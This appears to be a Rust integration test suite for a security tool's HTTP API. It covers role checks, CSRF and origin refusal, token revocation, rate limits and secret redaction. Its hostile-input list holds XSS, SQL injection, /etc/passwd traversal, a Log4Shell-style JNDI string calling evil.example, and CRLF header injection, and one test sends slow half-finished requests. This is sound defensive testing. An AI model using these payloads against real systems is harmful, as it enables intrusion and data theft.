//! The API as callers meet it, on a real socket over a state that the program made: who is refused what, that each answer is what
//! the table says, that a person's word goes through the writer's queue once, and what hostile callers get.

#![allow(clippy::unwrap_used, clippy::panic, clippy::print_stdout, dead_code, unreachable_pub, reason = "a test")]

#[path = "api/governing.rs"]
mod governing;
#[path = "kill/inputs.rs"]
mod inputs;
#[path = "api/installation.rs"]
mod installation;
#[path = "api/muting.rs"]
mod muting;
#[path = "api/oidc.rs"]
mod oidc;
mod platform;
mod program;
#[path = "kill/receiver.rs"]
mod receiver;

use firebreak::api::access::policy::{Deed, Roles};
use firebreak::api::endpoints::{AREAS, ENDPOINTS, Endpoint};
use installation::{Came, Installation, ROLES};
use serde_json::{Value, json};
use std::collections::BTreeSet;
use std::io::{Read, Write};
use std::net::TcpStream;
use std::path::Path;
use std::sync::OnceLock;
use std::time::Duration;

fn here() -> &'static Installation {
    static MADE: OnceLock<Installation> = OnceLock::new();
    MADE.get_or_init(Installation::made)
}

/// A path of `endpoint` that leads to something.
fn path(endpoint: &Endpoint) -> String {
    let here = here();
    let first = |path: &str, field: &str| {
        let came = here.as_role("admin", "GET", path, "").json();
        let item = came["items"][0].clone();
        item["plan"][field].as_str().or(item[field].as_str()).unwrap_or("none").to_owned()
    };
    let id = match endpoint.path.split('/').nth(1).unwrap_or_default() {
        "incidents" => first("/incidents", "id"),
        // The plan of a change is not one of the ledger's plans.
        "plans" if endpoint.path.ends_with("/playbook") => {
            let entries = here.as_role("auditor", "GET", "/ledger?entry_kind=plan", "").json();
            entries["items"][0]["body"]["plan"]["id"].as_str().unwrap_or("none").to_owned()
        }
        "plans" => first("/plans?status=waiting", "id"),
        "findings" => first("/findings", "id"),
        "changes" => first("/changes", "plan"),
        "detectors" => "anthropic_admin_key_made".to_owned(),
        "tokens" => "none".to_owned(),
        _ => "0".to_owned(),
    };
    let compromised = || first("/map/nodes", "key").replace(':', "%3A").replace('/', "%2F");
    let query = match endpoint.path {
        "/access/identity" => "?key=identity%3Aaws%2Farn%3Aaws%3Aiam%3A%3A123456789012%3Auser%2Fci".to_owned(),
        "/apps/app" => "?key=identity%3Alitellm%2Feval-nightly".to_owned(),
        "/shares" => "?resource=resource%3Aaws%2Farn%3Aaws%3As3%3A%3A%3Avault".to_owned(),
        "/exposure/who" => "?what=litellm@1.82.8".to_owned(),
        "/exposure/report" => "?profile=litellm-2026-03".to_owned(),
        "/advisories" => "?ecosystem=PyPI&name=litellm&version=1.82.8".to_owned(),
        "/policy/simulate" => "?policy=act".to_owned(),
        "/map/changes" => "?since=2020-01-01T00:00:00Z".to_owned(),
        "/map/node" => format!("?key={}", compromised()),
        "/map/reach" | "/map/plan" | "/duties" => format!("?from={}", compromised()),
        _ => String::new(),
    };
    format!(
        "/api/v1{}{query}",
        ["{id}", "{index}", "{name}"].iter().fold(endpoint.path.to_owned(), |path, place| path.replace(place, &id))
    )
}

fn refused(came: &Came, status: u16, slug: &str, what: &str) {
    assert_eq!(came.status, status, "{what}: {came:?}");
    assert_eq!(came.header("content-type"), Some("application/problem+json"), "{what}");
    let problem = came.json();
    assert_eq!(problem["type"], format!("urn:firebreak:problem:{slug}"), "{what}");
    assert!(problem["hint"].as_str().is_some_and(|hint| !hint.is_empty()), "{what}: {problem}");
}

/// A role that may not do what the endpoint does, where there is one: all may look.
fn too_weak(deed: Deed) -> Option<&'static str> {
    match deed {
        Deed::Read => None,
        Deed::Audit | Deed::Hunt | Deed::Respond | Deed::Approve => Some("viewer"),
        Deed::Administer => Some("approver"),
    }
}

/// What comes once strangers, of whom other tests send many, may call again.
fn patiently(call: impl Fn() -> Came) -> Came {
    const TRIES_MAX: usize = 30;
    for _ in 0..TRIES_MAX {
        let came = call();
        if came.status != 429 {
            return came;
        }
        std::thread::sleep(std::time::Duration::from_secs(1));
    }
    panic!("strangers are told to wait for ever")
}

/// Every endpoint refuses whoever is not known, whoever may not, and a page of another site. Prints the score.
#[test]
fn score() {
    let (here, mut without) = (here(), 0);
    let (cookie, csrf) = here.session();
    for endpoint in ENDPOINTS {
        let (method, path, what) = (endpoint.method.word(), path(endpoint), format!("{endpoint:?}"));
        let body = if endpoint.changes() { "{}" } else { "" };
        let Some(deed) = endpoint.deed else {
            if !endpoint.changes() {
                // These lead to the identity provider, of which there is none here, and tell nothing of the installation.
                let came = patiently(|| here.call(method, &path, &[], ""));
                let told = came.json();
                let silent = endpoint.path == "/login/ways" && told["provider"].is_null() && told["start"].is_null();
                assert!(came.status == 404 || silent, "{what}: {came:?}");
                continue;
            }
            // Opening a session is for those who are not known yet: it wants a code.
            let came = patiently(|| here.call(method, &path, &[], "{\"code\":\"guessed\"}"));
            refused(&came, 401, "no-session", &what);
            continue;
        };
        let mut proven = true;
        refused(&here.call(method, &path, &[], body), 401, "no-session", &what);
        for wrong in ["Bearer fbk_000000000000_00", "Basic YTpi", "Bearer", ""] {
            let came = here.call(method, &path, &[("Authorization", wrong)], body);
            proven &= came.status == 401 || came.status == 429;
            assert!(proven, "{what} with {wrong:?}: {came:?}");
        }
        if endpoint.area != "session" {
            // A token that is limited to another area, whatever its role.
            let other = AREAS.iter().find(|area| **area != endpoint.area).unwrap();
            let bearer = format!("Bearer {}", here.token("admin", &[other]));
            let came = here.call(method, &path, &[("Authorization", &bearer)], body);
            refused(&came, 403, "forbidden", &what);
            if let Some(role) = too_weak(deed) {
                let bearer = format!("Bearer {}", here.token(role, &[]));
                refused(&here.call(method, &path, &[("Authorization", &bearer)], body), 403, "forbidden", &what);
            }
        }
        if endpoint.changes() {
            let own = format!("http://{}", here.address);
            let with = |headers: &[(&str, &str)]| {
                here.call(method, &path, &[&[("Cookie", cookie.as_str())], headers].concat(), body)
            };
            refused(&with(&[("Origin", &own)]), 403, "no-csrf", &what);
            refused(&with(&[("Origin", &own), ("X-CSRF-Token", "0000")]), 403, "no-csrf", &what);
            refused(&with(&[("X-CSRF-Token", &csrf)]), 403, "foreign-origin", &what);
            refused(
                &with(&[("Origin", "https://evil.example"), ("X-CSRF-Token", &csrf)]),
                403,
                "foreign-origin",
                &what,
            );
            refused(&with(&[("Origin", "null"), ("X-CSRF-Token", &csrf)]), 403, "foreign-origin", &what);
            let crossed = [("Origin", own.as_str()), ("Sec-Fetch-Site", "cross-site"), ("X-CSRF-Token", &csrf)];
            refused(&with(&crossed), 403, "foreign-origin", &what);
        }
        without += usize::from(!proven);
    }
    println!("{}", json!({"endpoints": ENDPOINTS.len(), "endpoints_without_unauthorised_test": without}));
}

/// The table of roles that `docs/api.md` shows is what the policy says, and the socket agrees.
#[test]
fn no_role_reaches_across_to_what_another_may() {
    let (here, roles) = (here(), Roles::own().unwrap());
    for (method, path, deed, area) in [
        ("GET", "/ledger", Deed::Audit, "ledger"),
        ("GET", "/ledger/0", Deed::Audit, "ledger"),
        ("GET", "/bundle", Deed::Audit, "ledger"),
        ("GET", "/tokens", Deed::Audit, "tokens"),
        ("GET", "/plans", Deed::Read, "plans"),
    ] {
        for role in ROLES {
            let caller = firebreak::api::access::Caller {
                id: "x".into(),
                person: "x".into(),
                role: role.into(),
                scopes: Vec::new(),
                via: firebreak::api::access::Via::Token,
                expires: firebreak_model::Time(0),
            };
            let status = here.as_role(role, method, path, "").status;
            assert_eq!(status == 200, roles.permit(&caller, deed, area), "{role} {path}: {status}");
        }
    }
    let (session, other) = (here.session(), here.session());
    assert_ne!(session.0, other.0, "each login has a session of its own");
    let own = format!("http://{}", here.address);
    let headers = [("Cookie", session.0.as_str()), ("Origin", &own), ("X-CSRF-Token", &other.1)];
    let came = here.call("POST", "/api/v1/pause", &headers, "{\"because\":\"x\"}");
    refused(&came, 403, "no-csrf", "the proof of another session");
}

/// Each answer holds exactly what the table says, is tagged, and is not sent twice to whoever has it.
#[test]
fn every_look_answers_what_the_table_says() {
    let here = here();
    let bearer = format!("Bearer {}", here.token("admin", &[]));
    for endpoint in
        ENDPOINTS.iter().filter(|one| !one.changes() && one.kind != "text/event-stream" && one.status == 200)
    {
        let (path, what) = (path(endpoint), format!("{endpoint:?}"));
        let came = here.call("GET", &path, &[("Authorization", &bearer)], "");
        assert_eq!(came.status, 200, "{what} {path}: {came:?}");
        assert_eq!(came.header("x-content-type-options"), Some("nosniff"), "{what}");
        if endpoint.path == "/exposure/report" {
            // The one environment here was not looked at as a whole: no report says that it is clear.
            let verdicts = &came.json()["verdicts"];
            assert_eq!((&verdicts["unknown"], &verdicts["clear"]), (&json!(1), &json!(0)), "{what}: {came:?}");
        }
        if endpoint.kind.contains('/') {
            continue;
        }
        let answer = came.json();
        assert_eq!(answer["kind"], endpoint.kind, "{what}");
        let items: Vec<&Value> =
            if endpoint.list { answer["items"].as_array().unwrap().iter().collect() } else { vec![&answer] };
        for item in items {
            let told = item.as_object().unwrap();
            for (name, kind) in endpoint.fields {
                assert!(kind.ends_with('?') || told.contains_key(*name), "{what} lacks {name}: {item}");
                assert!(fits(kind, told.get(*name)), "{what}: {name} is no {kind}: {item}");
            }
        }
        let tag = came.header("etag").unwrap_or_else(|| panic!("{what}: {came:?}")).to_owned();
        let again = here.call("GET", &path, &[("Authorization", &bearer), ("If-None-Match", &tag)], "");
        // The overviews tell the time of the question, and other tests write to state and ledger meanwhile.
        assert!(
            again.status == 304 && again.body.is_empty() || again.header("etag") != Some(&tag),
            "{what}: {again:?}"
        );
    }
    let incidents = here.as_role("viewer", "GET", "/incidents?limit=1", "").json();
    let next = incidents["next"].as_str().expect("there are several").to_owned();
    let second = here.as_role("viewer", "GET", &format!("/incidents?limit=1&cursor={next}"), "").json();
    assert_ne!(incidents["items"][0]["id"], second["items"][0]["id"]);
    let findings = here.as_role("viewer", "GET", "/findings?limit=1", "").json();
    let next = findings["next"].as_str().expect("there are several").to_owned();
    let second = here.as_role("viewer", "GET", &format!("/findings?limit=1&cursor={next}"), "").json();
    assert_ne!(findings["items"][0]["id"], second["items"][0]["id"]);
}

fn fits(kind: &str, value: Option<&Value>) -> bool {
    let Some(value) = value.filter(|value| !value.is_null()) else { return kind.ends_with('?') };
    match kind.trim_end_matches('?') {
        "string" => value.is_string(),
        "time" => value.as_str().is_some_and(|text| firebreak_model::Time::parse(text).is_some()),
        "integer" => value.is_u64() || value.is_i64(),
        "boolean" => value.is_boolean(),
        "array" => value.is_array(),
        "any" => true,
        "number" => value.is_number(),
        "object" => value.is_object() || value.is_string(),
        other => panic!("no type `{other}`"),
    }
}

/// A person's word is one request under their own name, once for each key, with a record of who asked.
#[test]
fn an_approval_is_one_request_of_whoever_calls_and_stands_in_the_ledger() {
    let here = here();
    let plan = here.waiting();
    let (path, before) = (format!("/api/v1/plans/{plan}/decline"), here.book.with(|ledger| ledger.size()));
    let bearer = format!("Bearer {}", here.token("approver", &[]));
    let asked = || here.runtime.block_on(here.store.open_requests()).unwrap();
    let count = || asked().iter().filter(|request| request.kind == "decline").count();
    let known = count();
    let headers = [("Authorization", bearer.as_str()), ("Idempotency-Key", "decline-once")];
    let first = here.call("POST", &path, &headers, "{}");
    assert_eq!(first.status, 202, "{first:?}");
    let again = here.call("POST", &path, &headers, "{}");
    assert_eq!((again.status, again.json()), (202, first.json()), "the same answer again");
    assert_eq!(count(), known + 1, "one request");
    let other = here.call("POST", "/api/v1/pause", &headers, "{\"because\":\"other\"}");
    refused(&other, 422, "key-reused", "another call under the same key");
    assert_eq!(first.json()["by"], "identity:person/approver@example.com");
    // Other tests call meanwhile.
    let records: Vec<_> =
        here.book.with(|ledger| (before..ledger.size()).map(|at| ledger.record(at).unwrap().clone()).collect());
    let said = records.iter().filter(|record| record.body["endpoint"] == "/plans/{id}/decline");
    let said: Vec<_> = said.filter(|record| record.body["path"]["id"] == plan.as_str()).collect();
    assert_eq!(said.len(), 1, "once: {records:?}");
    assert_eq!((said[0].kind.as_str(), &said[0].body["by"]), ("api_call", &json!("approver@example.com")));
    // Nobody speaks for somebody else.
    let forged = here.call("POST", &path, &[("Authorization", &bearer)], "{\"by\":\"boss@example.com\"}");
    refused(&forged, 400, "bad-request", "a body that names somebody");
    let approve = format!("/plans/{plan}/approve");
    refused(&here.as_role("responder", "POST", &approve, "{}"), 403, "forbidden", "a responder approves nothing");
    refused(&here.as_role("admin", "POST", "/plans/none/approve", "{}"), 404, "not-found", "no such plan");
    let short = format!("/plans/{}/approve", &plan[..8]);
    refused(&here.as_role("admin", "POST", &short, "{}"), 404, "not-found", "a part of an id is no id");
    let undo = here.as_role("admin", "POST", "/pause", "{\"because\":\"  \"}");
    refused(&undo, 400, "bad-request", "a pause without a reason");
}

/// What people write about an incident is kept under their name, once, without secrets, and is a part of what an auditor takes along.
#[test]
fn a_note_is_kept_under_the_name_of_its_writer_and_exported() {
    let here = here();
    let incident = here.as_role("admin", "GET", "/incidents", "").json()["items"][0]["id"].as_str().unwrap().to_owned();
    let path = format!("/api/v1/incidents/{incident}/notes");
    let secret = "xoxb-123456789012-1234567890123-aB3dE5fG7hJ9kL1mN3pQ5rS7";
    let bearer = format!("Bearer {}", here.token("responder", &[]));
    let headers = [("Authorization", bearer.as_str()), ("Idempotency-Key", "a-note-once")];
    let body = json!({"text": format!(" the token {secret} was in the log <b> ")}).to_string();
    let (first, again) = (here.call("POST", &path, &headers, &body), here.call("POST", &path, &headers, &body));
    assert_eq!((first.status, first.json()), (201, again.json()), "{first:?}");
    let noted = here.as_role("viewer", "GET", &format!("/incidents/{incident}/notes"), "").json();
    let items = noted["items"].as_array().unwrap();
    assert_eq!((items.len(), &items[0]["by"]), (1, &json!("responder@example.com")), "{noted}");
    let text = items[0]["text"].as_str().unwrap();
    assert!(text.starts_with("the token ") && text.ends_with("was in the log <b>") && !text.contains(secret), "{text}");
    let notes = format!("/incidents/{incident}/notes");
    for wrong in ["{}", "{\"text\":\"  \"}", "{\"text\":\"x\",\"by\":\"boss@example.com\"}"] {
        refused(&here.as_role("responder", "POST", &notes, wrong), 400, "bad-request", wrong);
    }
    let long = json!({"text": "x".repeat(4_001)}).to_string();
    refused(&here.as_role("responder", "POST", &notes, &long), 400, "bad-request", "a long note");
    refused(
        &here.as_role("responder", "POST", "/incidents/none/notes", "{\"text\":\"x\"}"),
        404,
        "not-found",
        "none such",
    );
    refused(&here.as_role("viewer", "POST", &notes, "{\"text\":\"x\"}"), 403, "forbidden", "who only looks");

    let export = format!("/incidents/{incident}/export");
    refused(&here.as_role("responder", "GET", &export, ""), 403, "forbidden", "it holds entries of the ledger");
    let came = here.as_role("auditor", "GET", &export, "");
    assert!(came.header("content-disposition").unwrap().contains("incident.json") && !came.body.contains(secret));
    let told = came.json();
    assert_eq!((&told["incident"]["id"], &told["notes"][0]["text"]), (&json!(incident), &json!(text)));
    assert!(told["timeline"].as_array().unwrap().iter().any(|moment| moment["what"] == "note"));
    assert!(!told["findings"].as_array().unwrap().is_empty() && !told["plans"].as_array().unwrap().is_empty());
    let entries = told["ledger"]["entries"].as_array().unwrap();
    assert!(entries.iter().any(|entry| entry["body"]["path"]["id"] == *incident), "who wrote it is proven");
    assert!(entries.iter().all(|entry| entry["proof"].is_array() && entry["checkpoint"].is_string()));
}

/// A question to the lake is answered to whoever may ask, stands in the ledger before that without its secrets, and can do
/// nothing but look.
#[test]
fn a_question_to_the_lake_is_answered_within_bounds_and_recorded() {
    let here = here();
    let asked = |role: &str, sql: &str| here.as_role(role, "POST", "/hunt", &json!({"sql": sql}).to_string());
    let came = asked("responder", "SELECT source, count(*) AS events FROM events GROUP BY source ORDER BY 2 DESC");
    assert_eq!(came.status, 200, "{came:?}");
    let answer = came.json();
    assert!(answer["rows"][0][1].as_u64() > Some(0) && answer["events"].as_u64() > Some(0), "{answer}");
    assert_eq!((&answer["columns"][1]["name"], &answer["columns"][1]["holds"]), (&json!("events"), &json!("number")));
    assert_eq!((&answer["more"], &answer["gaps"]), (&json!(false), &json!([])));
    refused(&asked("viewer", "SELECT 1 FROM events"), 403, "forbidden", "who only looks does not hunt");
    refused(&here.as_role("viewer", "GET", "/hunt", ""), 403, "forbidden", "nor sees what others saved");
    for sql in
        ["DROP TABLE events", "SELECT * FROM '/etc/passwd'", "SELECT 1 FROM events; SELECT 2 FROM events", "", "x"]
    {
        refused(&asked("admin", sql), 422, "unfit", sql);
    }
    let many = here.as_role("admin", "POST", "/hunt", "{\"sql\":\"SELECT * FROM events\",\"rows\":2}").json();
    assert_eq!((many["rows"].as_array().unwrap().len(), &many["more"]), (2, &json!(true)));
    let many = here.as_role("admin", "POST", "/hunt", "{\"sql\":\"SELECT * FROM events\",\"rows\":10001}");
    refused(&many, 400, "bad-request", "too many rows");

    let secret = format!("xoxb-123456789012-1234567890123-{}", "aB3dE5fG7hJ9kL1mN3pQ5rS7");
    let before = here.book.with(|ledger| ledger.size());
    let came = asked("auditor", &format!("SELECT count(*) FROM events WHERE raw LIKE '%{secret}%'"));
    assert_eq!(came.status, 200, "{came:?}");
    let entries: Vec<Value> = here.book.with(|ledger| {
        (before..ledger.size()).map(|at| serde_json::to_value(&ledger.record(at).unwrap().body).unwrap()).collect()
    });
    let entry = entries.iter().find(|entry| entry["endpoint"] == "/hunt" && entry["by"] == "auditor@example.com");
    let entry = entry.unwrap_or_else(|| panic!("{entries:?}"));
    let sql = entry["body"]["sql"].as_str().unwrap();
    assert!(sql.starts_with("SELECT count(*)") && !sql.contains(&secret) && !came.body.contains(&secret), "{sql}");

    // A key makes no second question free of the record.
    let bearer = format!("Bearer {}", here.token("responder", &[]));
    let keyed = |sql: &str| {
        let headers = [("Authorization", bearer.as_str()), ("Idempotency-Key", "the-same-key")];
        here.call("POST", "/api/v1/hunt", &headers, &json!({"sql": sql}).to_string()).json()["rows"].clone()
    };
    let before = here.book.with(|ledger| ledger.size());
    assert_ne!(keyed("SELECT 1 FROM events LIMIT 1"), keyed("SELECT 2 FROM events LIMIT 1"));
    assert!(here.book.with(|ledger| ledger.size()) >= before + 2, "each asking is an entry");
}

/// A login link opens one session; the session ends with its logout; a token ends when it is revoked.
#[test]
fn links_hold_once_sessions_end_and_tokens_are_revoked() {
    let here = here();
    let link = firebreak::api::access::make_login(&here.store, &here.world, "ada@example.com", "admin");
    let code = here.runtime.block_on(link).unwrap();
    let body = format!("{{\"code\":\"{code}\"}}");
    let fixed = [("Cookie", "firebreak_session=fixed")];
    let opened = here.call("POST", "/api/v1/session", &fixed, &body);
    let set = opened.header("set-cookie").unwrap().to_owned();
    assert!(set.contains("HttpOnly") && set.contains("SameSite=Strict") && !set.contains("fixed"), "{set}");
    refused(&here.call("POST", "/api/v1/session", &[], &body), 401, "no-session", "a used link");
    let calls = || -> Vec<Value> {
        let entries = here.as_role("auditor", "GET", "/ledger?entry_kind=api_call&limit=500", "").json();
        entries["items"].as_array().unwrap().iter().map(|entry| entry["body"].clone()).collect()
    };
    assert!(calls().iter().any(|call| call["endpoint"] == "/session" && call["by"] == "ada@example.com"), "a login");
    assert!(calls().iter().all(|call| call["by"] != ""), "a stranger's guesses are no entries");
    let (cookie, csrf) = (set.split(';').next().unwrap(), opened.json()["csrf"].as_str().unwrap().to_owned());
    let (own, who) = (format!("http://{}", here.address), "/api/v1/session");
    assert_eq!(here.call("GET", who, &[("Cookie", cookie)], "").json()["name"], "ada@example.com");
    let doubled = format!("firebreak_session=x; {cookie}");
    refused(&here.call("GET", who, &[("Cookie", &doubled)], ""), 401, "no-session", "two cookies");
    let headers = [("Cookie", cookie), ("Origin", own.as_str()), ("X-CSRF-Token", &csrf)];
    assert_eq!(here.call("DELETE", who, &headers, "").status, 204);
    refused(&here.call("GET", who, &[("Cookie", cookie)], ""), 401, "no-session", "after the logout");

    let wanted = "{\"person\":\"ci@example.com\",\"role\":\"viewer\",\"scopes\":[\"plans\"],\"days\":1}";
    let made = here.as_role("admin", "POST", "/tokens", wanted);
    assert_eq!(made.status, 201, "{made:?}");
    let (secret, id) =
        (made.json()["token"].as_str().unwrap().to_owned(), made.json()["id"].as_str().unwrap().to_owned());
    let bearer = format!("Bearer {secret}");
    let look = || here.call("GET", "/api/v1/plans", &[("Authorization", &bearer)], "");
    assert_eq!(look().status, 200);
    let listed = here.as_role("auditor", "GET", "/tokens", "").body;
    assert!(listed.contains(&id) && !listed.contains(&secret), "a token is shown once");
    let ledger = here.as_role("auditor", "GET", "/ledger", "").body;
    assert!(!ledger.contains(&secret) && !ledger.contains(&code), "no secret stands in the ledger");
    assert_eq!(here.as_role("admin", "DELETE", &format!("/tokens/{id}"), "").status, 204);
    refused(&look(), 401, "no-session", "a revoked token");
    for role in ["admin", "approver"] {
        let wanted = format!("{{\"person\":\"eve@example.com\",\"role\":\"{role}\"}}");
        refused(&here.as_role("admin", "POST", "/tokens", &wanted), 403, "forbidden", "no session invents an approver");
    }
}

const HOSTILE: [&str; 12] = [
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "' OR 1=1 --",
    "\\\"; DROP TABLE token; --",
    "../../../../etc/passwd",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\u{202e}gpj.exe",
    "%00%0d%0aSet-Cookie: x=y",
    "\u{0}\u{1b}[31m",
    "AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA",
    "ﷺ🧨",
];

fn escaped(text: &str) -> String {
    text.bytes().map(|byte| format!("%{byte:02X}")).collect()
}

/// Whatever text comes: it is looked up or kept as text, never believed, and nothing breaks.
#[test]
fn hostile_text_is_text() {
    let here = here();
    let bearer = format!("Bearer {}", here.token("admin", &[]));
    let mut call = 0;
    let mut ask = |method: &str, path: &str, body: &str| {
        call += 1;
        // A token each fifty calls: what is tested is text, not the pace.
        let bearer = if call % 50 == 0 { format!("Bearer {}", here.token("admin", &[])) } else { bearer.clone() };
        let came = here.call(method, path, &[("Authorization", &bearer)], body);
        assert!(came.status < 500 && came.status != 0, "{method} {path} {body}: {came:?}");
        assert!(!came.head.contains("x=y") && !came.head.to_lowercase().contains("text/html"), "{path}: {came:?}");
        came
    };
    for text in HOSTILE {
        let coded = escaped(text);
        for path in ["/incidents/", "/plans/", "/findings/", "/ledger/"] {
            assert!(matches!(ask("GET", &format!("/api/v1{path}{coded}"), "").status, 404 | 400), "{path}{text}");
        }
        for filter in
            ["/findings?detector=", "/incidents?status=", "/map/nodes?q=", "/judgements?profile=", "/identities?q="]
        {
            let came = ask("GET", &format!("/api/v1{filter}{coded}"), "");
            assert!(
                came.status == 200 && came.json()["items"].as_array().unwrap().is_empty(),
                "{filter}{text}: {came:?}"
            );
        }
        for filter in
            ["/incidents?cursor=", "/findings?since=", "/findings?limit=", "/map/node?key=", "/map/nodes?type="]
        {
            assert!(matches!(ask("GET", &format!("/api/v1{filter}{coded}"), "").status, 400 | 404), "{filter}{text}");
        }
        let body = json!({"person": text, "role": text, "because": text}).to_string();
        for path in ["/tokens", "/plans/x/undo", "/session"] {
            let came = ask("POST", &format!("/api/v1{path}"), &body);
            assert!(matches!(came.status, 400 | 401 | 403 | 404 | 429), "{path}: {came:?}");
        }
    }
    let paused = ask("POST", "/api/v1/pause", &json!({"because": HOSTILE[0]}).to_string());
    assert_eq!((paused.status, &paused.json()["because"]), (202, &json!(HOSTILE[0])), "kept as it was said");
    let none = here.runtime.block_on(here.store.tokens()).unwrap();
    assert!(!none.is_empty(), "the tables stand");
}

/// Names, sizes, paths and slowness.
#[test]
fn strangers_cost_little_and_reach_nothing() {
    let here = here();
    for host in ["evil.example", "127.0.0.1", "localhost.evil.example:80", ""] {
        refused(&here.call("GET", "/api/v1/now", &[("Host", host)], ""), 421, "wrong-host", host);
        assert_eq!(here.call("GET", "/", &[("Host", host)], "").status, 421, "{host}");
    }
    for path in ["/../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/assets/..%2f..%2fetc/passwd", "//etc/passwd.txt"] {
        let came = here.call("GET", path, &[], "");
        assert!(!came.body.contains("root:"), "{path}: {came:?}");
        assert!(matches!(came.status, 200 | 400 | 404), "{path}: {came:?}");
    }
    let page = here.call("GET", "/", &[], "");
    let policy = page.header("content-security-policy").unwrap();
    assert!(policy.contains("default-src 'none'") && !policy.contains("unsafe"), "{policy}");
    assert_eq!(here.call("POST", "/", &[], "").status, 405);
    assert_eq!(here.as_role("viewer", "PATCH", "/now", "").status, 405);
    refused(&here.as_role("viewer", "GET", "/nothing", ""), 404, "not-found", "no such endpoint");
    refused(&here.as_role("viewer", "GET", "/now?everything=1", ""), 400, "bad-request", "an unknown filter");

    let large = format!("{{\"because\":\"{}\"}}", "x".repeat(70 << 10));
    refused(&here.as_role("responder", "POST", "/pause", &large), 413, "too-large", "a large body");
    let bearer = format!("Bearer {}", here.tokens["responder"]);
    let form = [("Authorization", bearer.as_str()), ("Content-Type", "application/x-www-form-urlencoded")];
    refused(&here.call("POST", "/api/v1/pause", &form, "because=x"), 415, "not-json", "a form");
    for body in ["[]", "\"x\"", "{", "{\"because\":1}", "{\"because\":\"x\",\"more\":1}"] {
        refused(&here.as_role("responder", "POST", "/pause", body), 400, "bad-request", body);
    }

    // Those who say half and wait keep nobody from being answered.
    let slow: Vec<TcpStream> = (0..20)
        .map(|_| {
            let mut stream = TcpStream::connect(here.address).unwrap();
            let head = format!("POST /api/v1/pause HTTP/1.1\r\nHost: {}\r\nAuthorization: {bearer}\r\n", here.address);
            stream
                .write_all(format!("{head}Content-Type: application/json\r\nContent-Length: 999\r\n\r\n{{").as_bytes())
                .unwrap();
            stream
        })
        .collect();
    assert_eq!(here.as_role("viewer", "GET", "/plans", "").status, 200);
    drop(slow);
}

/// One who calls without end is told to wait, and others are not.
#[test]
fn a_caller_without_end_waits_alone() {
    let here = here();
    let bearer = format!("Bearer {}", here.token("viewer", &[]));
    let came = (0..400).map(|_| here.call("GET", "/api/v1/session", &[("Authorization", &bearer)], ""));
    let late = came.into_iter().find(|came| came.status == 429).expect("there is an end");
    assert!(late.header("retry-after").is_some(), "{late:?}");
    assert_eq!(here.as_role("viewer", "GET", "/session", "").status, 200);
}

/// Whoever listens hears that something changed, not what.
#[test]
fn listeners_hear_of_changes() {
    let here = here();
    let mut stream = TcpStream::connect(here.address).unwrap();
    stream.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let bearer = here.token("viewer", &[]);
    let call =
        format!("GET /api/v1/events HTTP/1.1\r\nHost: {}\r\nAuthorization: Bearer {bearer}\r\n\r\n", here.address);
    stream.write_all(call.as_bytes()).unwrap();
    let mut heard = String::new();
    let mut hear = |until: &str| {
        let mut buffer = [0; 4_096];
        while !heard.contains(until) {
            let count = stream.read(&mut buffer).unwrap();
            assert!(count > 0, "it ended: {heard}");
            heard.push_str(&String::from_utf8_lossy(&buffer[..count]));
        }
        heard.clone()
    };
    hear("it listens");
    assert_eq!(here.as_role("admin", "POST", "/resume", "{}").status, 202);
    let heard = hear("event: change");
    assert!(heard.contains("text/event-stream") && heard.contains("\"requests\""), "{heard}");
}

/// An entry is proven by what the answer holds alone.
#[test]
fn a_reader_can_check_an_entry_by_itself() {
    use firebreak_ledger::record::commitment;
    use firebreak_ledger::tree::{is_included, leaf_hash};
    let entry = here().as_role("auditor", "GET", "/ledger/0", "").json();
    let bytes = |text: &str| -> Vec<u8> {
        (0..text.len()).step_by(2).map(|at| u8::from_str_radix(&text[at..at + 2], 16).unwrap()).collect()
    };
    let hash = |name: &str| -> [u8; 32] { bytes(entry[name].as_str().unwrap()).try_into().unwrap() };
    let made = commitment(&hash("salt"), entry["record"].as_str().unwrap().as_bytes());
    assert_eq!(made, hash("commitment"));
    assert_eq!(leaf_hash(&made), hash("leaf"));
    let proof: Vec<[u8; 32]> =
        entry["proof"].as_array().unwrap().iter().map(|one| bytes(one.as_str().unwrap()).try_into().unwrap()).collect();
    assert!(is_included(&hash("leaf"), 0, entry["size"].as_u64().unwrap(), &proof, &hash("root")));
}

/// `BLESS=1` writes the document anew.
#[test]
fn the_committed_document_is_that_of_the_table() {
    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../../docs/openapi.json");
    let made = format!("{}\n", serde_json::to_string_pretty(&firebreak::api::openapi::document()).unwrap());
    if std::env::var_os("BLESS").is_some() {
        std::fs::write(&path, &made).unwrap();
    }
    assert_eq!(std::fs::read_to_string(&path).unwrap_or_default(), made, "BLESS=1 writes it anew");
    let document = firebreak::api::openapi::document();
    let mut ids = BTreeSet::new();
    for (path, operations) in document["paths"].as_object().unwrap() {
        for operation in operations.as_object().unwrap().values() {
            assert!(ids.insert(operation["operationId"].as_str().unwrap().to_owned()), "{path}: an id twice");
        }
    }
    assert_eq!(ids.len(), ENDPOINTS.len());
}
